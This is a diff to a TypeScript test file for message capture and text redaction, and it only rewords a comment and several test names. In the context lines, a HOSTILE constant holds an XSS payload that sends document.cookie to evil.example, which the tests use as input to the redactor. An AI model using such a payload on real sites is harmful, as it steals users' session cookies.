@@ -13,7 +13,7 @@ const HOSTILE = `<img src=x onerror="fetch('//evil.example/'+document.cookie)"> 
 const world = scenarioWorld();
 const { loop, target } = world;
 
-/** The file that a capture of a message writes. */
+/** The file that capturing a message writes. */
 async function capture(messageId: string): Promise<string> {
   const message = await loop.connector<ConnectorMessage>('GET', `/v1/messages/${messageId}`);
   const { entries } = await loop.connector<MessageTrace>('GET', `/v1/messages/${messageId}/trace?limit=1000`);
@@ -25,7 +25,7 @@ function pathsOf({ causes }: Scenario): string[] {
 }
 
 describe('a capture', () => {
-  it('repeats what a connector received of a message, copies and late ones included', async () => {
+  it('repeats what a connector received about a message, including copies and late events', async () => {
     const connectionId = await world.client.qrConnection();
     await loop.connector('POST', '/v1/messages', {
       connectionId,
@@ -53,7 +53,7 @@ describe('a capture', () => {
     expect((await replay(scenario, target)).differences).toEqual([]);
   });
 
-  it('contains nothing of the phone number, the text, an id, a secret or a token', async () => {
+  it('contains no phone number, text, id, secret or token', async () => {
     const connectionId = await world.client.qrConnection();
     const incoming = (await loop.sandbox('POST', `/contacts/${CONTACT}/messages`, {
       connectionId,
@@ -89,7 +89,7 @@ describe('a capture', () => {
 describe('a redacted text', () => {
   const { text, phone } = createRedactor(Buffer.from('a key'));
 
-  it('has the length and the kinds of characters of the original, and none of its letters in place', () => {
+  it('has the length and the character classes of the original, and no letter in its place', () => {
     const redacted = text(HOSTILE);
     expect(redacted.length).toBe(HOSTILE.length);
     expect(Buffer.byteLength(redacted)).toBe(Buffer.byteLength(HOSTILE));
@@ -105,7 +105,7 @@ describe('a redacted text', () => {
     expect(same).toEqual([]);
   });
 
-  it('is the same for the same original, and another one with another key', () => {
+  it('is the same for the same original, and different with another key', () => {
     expect(text('Hello')).toBe(text('Hello'));
     expect(createRedactor(Buffer.from('another')).text('Hello')).not.toBe(text('Hello'));
   });
